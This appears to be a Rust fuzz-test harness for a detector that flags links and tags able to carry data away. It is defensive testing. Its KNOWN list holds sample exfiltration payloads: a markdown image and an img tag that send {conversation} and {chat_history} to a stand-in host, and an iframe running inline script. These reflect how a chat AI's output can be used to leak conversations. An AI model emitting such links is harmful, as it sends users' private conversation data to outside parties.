//! Links in any text: in bounds, never hidden by what stands around, and told of an address that is
//! known to carry something; the same twice.

use warden_detect::{LEVEL, Links, links};

/// How long a text is made that begins with `*`, to see what costs more than its length.
const LONG: usize = 16 * 1024;

/// Addresses that carry something away whatever stands before them.
const KNOWN: &[&str] = &[
    "![x](https://e.example/p.png?d={conversation})",
    "<img src=\"https://e.example/p?d={chat_history}\">",
    "<iframe src=\"data:text/html,<script>x()</script>\"></iframe>",
];

/// The whole input is the text. One that begins with `*` is repeated until it is long.
pub fn check(data: &[u8]) {
    let Ok(text) = std::str::from_utf8(data) else { return };
    match text.strip_prefix('*').filter(|piece| !piece.is_empty()) {
        Some(piece) => {
            bounds(&piece.repeat(LONG / piece.len()));
        }
        None => {
            let found = bounds(text);
            behind(text);
            without(text, &found);
        }
    }
}

fn bounds(text: &str) -> Links {
    let found = links(text);
    assert_eq!(found, links(text), "the same twice");
    let mut from = 0;
    for one in &found.evidence {
        assert!(one.range.start >= from, "in order");
        assert!(text.get(one.range.clone()).is_some_and(|piece| !piece.is_empty()), "{one:?}");
        assert!(one.weight > 0 && one.weight <= 100);
        from = one.range.start;
    }
    let worst = found.evidence.iter().map(|one| one.weight).max().unwrap_or(0);
    assert!(found.score >= worst && found.score <= 100);
    assert!(found.evidence.len() <= 64 && (found.more == 0 || found.evidence.len() == 64));
    found
}

/// A known address on a line of its own is found whatever stands on the lines before and behind.
fn behind(text: &str) {
    // What opens a tag or an attribute and never closes it takes in what follows.
    if text.contains(['<', '"', '\'', '(', '[', '`']) {
        return;
    }
    for known in KNOWN {
        let found = links(&format!("{text}\n\n{known}\n\n{text}"));
        assert!(found.reaches(LEVEL), "{known} in {text:?}");
    }
}

/// Text without a colon and without two slashes has no address.
fn without(text: &str, found: &Links) {
    if !text.contains(':') && !text.contains("//") {
        assert!(found.evidence.is_empty() && found.score == 0);
    }
}
